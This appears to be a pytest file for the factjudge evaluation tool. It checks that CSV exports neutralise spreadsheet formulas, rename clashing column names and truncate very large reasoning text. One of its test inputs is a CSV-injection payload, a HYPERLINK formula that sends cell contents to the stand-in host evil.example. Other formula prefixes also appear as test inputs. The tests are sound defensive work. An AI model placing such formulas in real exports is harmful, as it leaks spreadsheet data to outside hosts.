"""Hostile content in what eval writes: spreadsheet formulas in facts.csv (OWASP's CSV Injection),
fact fields named like the columns factjudge adds, and reasoning of any size (a server writing
megabytes per answer, a fact holding a huge text that every reasoning quotes)."""
import csv
import re

import pytest
from evalkit import llm_args, read_lines, run_cli, write_jsonl
from scripted_server import answer, describe

from factjudge import run_judge
from factjudge.models import QUOTE_LIMIT, REASONING_LIMIT, result_rows
from factjudge.reports.facts_csv import write_facts_csv

# --------------------------------------------------------------------------- formula injection

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def csv_rows(path):
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_facts_csv_neutralises_formulas_as_owasp_says_and_keeps_numbers(tmp_path, server):
    """Every cell that a spreadsheet would run as a formula starts with a quote; plain numbers
    (-12.9, a value of -3) stay numbers; the value stays readable after the quote."""
    gold = [{"id": "g1", "fact_type": "revenue", "value": "-12.9", "amount": -3, "pct": "-1.5%",
             "note": "+cmd",
             "=evil": "@SUM(A1:A9)"},
            {"id": "g2", "fact_type": "revenue", "value": "-2+3", "note": "\t=1+1", "other": "\r=1"},
            {"id": "g3", "fact_type": "revenue", "value": "'=quoted already", "note": "-"}]
    pred = [{"id": "p1", "fact_type": "revenue", "value": "-12.9"}]
    data = write_jsonl(tmp_path / "d.jsonl", [{"doc_id": FORMULA, "gold_facts": gold,
                                              "predicted_facts": pred}])
    server.responder = lambda body: answer(*describe(body)[:2], None, reasoning="=1+2 because")
    out = tmp_path / "out"
    done = run_cli("eval", data, "-o", out, "--csv", "-q", *llm_args(server, tmp_path / "c"))
    assert done.returncode == 0, done.stderr
    rows = csv_rows(out / "facts.csv")
    header, body = rows[0], rows[1:]
    assert "'=evil" in header and "=evil" not in header
    cells = [dict(zip(header, row, strict=True)) for row in body]
    g1, g2, g3, p1 = cells
    assert g1["doc_id"] == "'" + FORMULA and g1["reasoning"] == "'=1+2 because"
    assert g1["value"] == "-12.9" and g1["amount"] == "-3" and p1["value"] == "-12.9"
    assert g1["pct"] == "-1.5%"
    assert g1["note"] == "'+cmd" and g1["'=evil"] == "'@SUM(A1:A9)"
    assert g2["value"] == "'-2+3" and g2["note"] == "'\t=1+1" and g2["other"] == "'\r=1"
    # a value that already starts with quotes before a formula gets one more, so that reading
    # one quote off gives every value back as it was
    assert g3["value"] == "''=quoted already" and g3["note"] == "'-"
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r" or re.fullmatch(r"-[0-9.]+%?", cell)


def test_write_facts_csv_neutralises_a_formula_in_a_fact_id(tmp_path):
    result = run_judge([{"id": "=1+1", "fact_type": "@t", "v": "x"}], [], {})
    write_facts_csv([result], tmp_path / "f.csv")
    (header, row) = csv_rows(tmp_path / "f.csv")
    got = dict(zip(header, row, strict=True))
    assert got["id"] == "'=1+1" and got["fact_type"] == "'@t"


# --------------------------------------------------------------------------- column names


def test_fact_fields_named_like_added_columns_keep_their_values(tmp_path):
    """doc_id and side are columns factjudge fills in: a fact's own field of that name becomes
    fact.<name>, and one already named fact.<name> becomes fact.fact.<name> (never one column
    for two values)."""
    fact = {"id": "g1", "fact_type": "t", "doc_id": "A", "fact.doc_id": "B", "side": "S",
            "fact.side": "T", "fact.fact.side": "U", "fact.other": "kept as it is"}
    result = run_judge([fact], [], {})
    (row,) = result_rows(result, "D")
    assert row["doc_id"] == "D" and row["side"] == "gold"
    assert {k: v for k, v in row.items() if k.startswith("fact.")} == {
        "fact.doc_id": "A", "fact.fact.doc_id": "B", "fact.side": "S", "fact.fact.side": "T",
        "fact.fact.fact.side": "U", "fact.other": "kept as it is"}
    write_facts_csv([result], tmp_path / "f.csv")
    (header, values) = csv_rows(tmp_path / "f.csv")
    assert len(header) == len(set(header))
    got = dict(zip(header, values, strict=True))
    assert (got["fact.doc_id"], got["fact.fact.doc_id"], got["fact.side"], got["fact.fact.side"],
            got["fact.fact.fact.side"]) == ("A", "B", "S", "T", "U")
    pytest.importorskip("pandas")
    df = result.to_pandas()
    assert list(df.columns) == list(row)
    assert df.loc[0, "fact.fact.doc_id"] == "B" and df.loc[0, "fact.doc_id"] == "A"


def test_facts_csv_writer_with_fields_given_renames_the_same_way(tmp_path):
    from factjudge.reports.facts_csv import FactsCsvWriter

    result = run_judge([{"id": "g1", "fact_type": "t", "doc_id": "A", "fact.doc_id": "B"}], [], {})
    with FactsCsvWriter(tmp_path / "f.csv", fields=["doc_id", "fact.doc_id"]) as w:
        w.add(result, doc_id="D")
    (header, values) = csv_rows(tmp_path / "f.csv")
    got = dict(zip(header, values, strict=True))
    assert (got["doc_id"], got["fact.doc_id"], got["fact.fact.doc_id"]) == ("D", "A", "B")


def test_eval_to_pandas_keeps_a_fact_field_named_doc_id(tmp_path):
    pytest.importorskip("pandas")
    from factjudge.io.tables import eval_to_pandas

    data = write_jsonl(tmp_path / "d.jsonl", [{"doc_id": "D", "gold_facts": [
        {"id": "g1", "fact_type": "t", "doc_id": "A", "fact.doc_id": "B"}], "predicted_facts": []}])
    assert run_cli("eval", data, "-o", tmp_path / "out", "-q").returncode == 0
    df = eval_to_pandas(tmp_path / "out")
    assert (df.loc[0, "doc_id"], df.loc[0, "fact.doc_id"], df.loc[0, "fact.fact.doc_id"]) == \
        ("D", "A", "B")


# --------------------------------------------------------------------------- reasoning size

CUT = "characters, the first"


def test_huge_reasoning_from_a_server_is_cut_and_says_so(tmp_path, server):
    """512 KB of reasoning per answer: each fact keeps REASONING_LIMIT characters and a marker;
    results.jsonl and report.html stay small (they were 16 MB and 9 MB here)."""
    huge = "because " * (512 * 1024 // 8)
    docs = [{"doc_id": f"d{n}", "gold_facts": [{"id": f"g{n}-{i}", "fact_type": "t", "v": i}
                                               for i in range(2)],
             "predicted_facts": [{"id": f"p{n}-{i}", "fact_type": "t", "v": i} for i in range(2)]}
            for n in range(4)]
    data = write_jsonl(tmp_path / "d.jsonl", docs)

    def respond(body):
        direction, subject, ids = describe(body)
        other = subject.replace("g", "p") if direction == "gold" else subject.replace("p", "g")
        return answer(direction, subject, other, reasoning=huge)
    server.responder = respond
    out = tmp_path / "out"
    done = run_cli("eval", data, "-o", out, "-q", *llm_args(server, tmp_path / "c"))
    assert done.returncode == 0, done.stderr
    facts = [f for line in read_lines(out / "results.jsonl")
             for f in line["gold_facts"] + line["predicted_facts"]]
    assert len(facts) == 16 and all(f["factjudge"]["status"] == "TP" for f in facts)
    for f in facts:
        kept, _, marker = f["factjudge"]["reasoning"].rpartition(" … [cut: ")
        assert kept == huge[:REASONING_LIMIT]
        assert marker == f"{len(huge):,} {CUT} {REASONING_LIMIT:,} kept]"
        assert all(len(r) < REASONING_LIMIT + 100 for r in f["factjudge"]["linked_reasoning"].values())
    # 16 facts, each with its reasoning and its linked fact's: 2 x 16 x 20 KB at most
    assert (out / "results.jsonl").stat().st_size < 2 * 16 * (REASONING_LIMIT + 1000)
    assert (out / "report.html").stat().st_size < 2_000_000


def test_a_server_value_quoted_in_an_error_is_cut(tmp_path, server):
    """An answer naming a huge id is invalid; the ERROR says so without quoting it whole."""
    data = write_jsonl(tmp_path / "d.jsonl", [{"doc_id": "d", "gold_facts": [
        {"id": "g1", "fact_type": "t", "v": 1}], "predicted_facts": [
        {"id": "p1", "fact_type": "t", "v": 1}]}])
    server.responder = lambda body: answer(describe(body)[0], "x" * 300_000, None)
    out = tmp_path / "out"
    done = run_cli("eval", data, "-o", out, "-q", *llm_args(server, tmp_path / "c"))
    assert done.returncode == 1, done.stderr
    facts = [f for line in read_lines(out / "results.jsonl")
             for f in line["gold_facts"] + line["predicted_facts"]]
    assert [f["factjudge"]["status"] for f in facts] == ["ERROR", "ERROR"]
    for f in facts:
        assert CUT in f["factjudge"]["description"] and len(f["factjudge"]["description"]) < 3 * QUOTE_LIMIT
    reasks = [r["messages"][-1]["content"] for r in server.requests if len(r["messages"]) > 3]
    assert reasks and all(len(text) < 3 * QUOTE_LIMIT for text in reasks)  # the problem, cut


def test_a_huge_text_field_is_quoted_cut_in_every_reasoning(tmp_path):
    """One gold fact with a 3 MB text and three short predicted facts: each of the four
    reasonings quoted the 3 MB text whole (15 MB results.jsonl, 24 MB report.html; 3 MB and
    15 MB now). 600 kB here (17 s at 3 MB on 2 loaded cores): quoted whole, it would still break
    every bound below many times over."""
    big = "word " * 120_000
    doc = {"doc_id": "d1", "gold_facts": [{"id": "g1", "fact_type": "note", "text": big}],
           "predicted_facts": [{"id": f"p{i}", "fact_type": "note", "text": f"short text {i}"}
                               for i in range(3)]}
    data = write_jsonl(tmp_path / "d.jsonl", [doc])
    out = tmp_path / "out"
    assert run_cli("eval", data, "-o", out, "-q").returncode == 0
    (line,) = read_lines(out / "results.jsonl")
    facts = line["gold_facts"] + line["predicted_facts"]
    assert [f["factjudge"]["status"] for f in facts] == ["FN", "FP", "FP", "FP"]
    for f in facts:
        assert CUT in f["factjudge"]["reasoning"] and len(f["factjudge"]["reasoning"]) < 2 * QUOTE_LIMIT + 1000
    size = data.stat().st_size
    assert (out / "results.jsonl").stat().st_size < size + 100_000  # the fact itself, once
    # the reports showed the fact whole in five rows (its own, and as the closest fact of each FP):
    # 15 MB, and the four reasonings quoting it made that 24 MB; each shows a cut value now
    for report in ("report.html", "report.md"):
        assert (out / report).stat().st_size < 200_000, report
        assert CUT in (out / report).read_text(encoding="utf-8")
